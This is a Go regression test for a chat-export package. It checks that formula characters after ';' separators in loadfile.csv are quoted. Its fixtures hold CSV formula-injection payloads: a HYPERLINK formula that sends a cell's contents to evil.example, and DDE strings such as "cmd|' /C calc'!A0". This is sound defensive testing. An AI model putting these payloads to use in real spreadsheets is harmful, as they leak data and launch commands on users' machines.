package rsmf

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/chatvault/chatvault/internal/reliability"
)

// TestLoadFileFormulasAfterSemicolon: a spreadsheet whose list separator is ";" (most of
// continental Europe) opens loadfile.csv splitting every line at each ";", quoted or not,
// so a cell starts after every ";" of a field, not only where a field starts. A display
// name, chat id or organization name holding ";=HYPERLINK(…)" became a live formula
// there: only the field's first character (and each Participants name's) was checked.
// Now a formula character after a ";" (and any spaces) is quoted too.
func TestLoadFileFormulasAfterSemicolon(t *testing.T) {
	days := fixtureDays(t)
	hostile := []string{`Bob;=HYPERLINK("http://evil.example/?"&A1,"click")`, "x; +1+cmd|' /C calc'!A0", "y;-2+3", "z;  @SUM(1+1)", "w;\t=1", "v;\r=1"}
	for i := range days[0].Events {
		e := &days[0].Events[i]
		e.Sender.DisplayName = hostile[i%len(hostile)]
		e.ChatID = e.ChatID + hostile[(i/3)%len(hostile)]
	}
	opt := testOptions(t)
	opt.OrgName = "Acme;=cmd|' /C calc'!A0"
	out := produce(t, days[:1], opt, nil)
	p := parseProduction(t, out)
	checkProduction(t, p)
	raw := loadFileBytes(t, out)
	r := csv.NewReader(bytes.NewReader(raw))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = ';', true, -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("loadfile.csv read with ';': %v", err)
	}
	cells := 0
	for _, row := range rows {
		for _, c := range row {
			cells++
			if s := strings.TrimLeft(c, " "); s != "" && strings.ContainsRune(formulaStart, rune(s[0])) {
				t.Errorf("a ';' spreadsheet reads the cell %q, a formula", c)
			}
		}
	}
	if cells <= len(rows) {
		t.Fatalf("the hostile names put no ';' in loadfile.csv")
	}
	reliability.Record(t, "security", "rsmf export: display name, chat id or organization name holding ';=HYPERLINK(…)' (a ';'-separated spreadsheet splits there)", reliability.Kept,
		"a formula character after any ';' of a loadfile.csv cell is quoted as at the cell's start; only the start of a cell (and of each participant's name) was")
}

// loadFileBytes returns loadfile.csv of a production as stored.
func loadFileBytes(t *testing.T, out []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if zf.Name == "loadfile.csv" {
			return readZipFile(t, zf)
		}
	}
	t.Fatal("no loadfile.csv")
	return nil
}
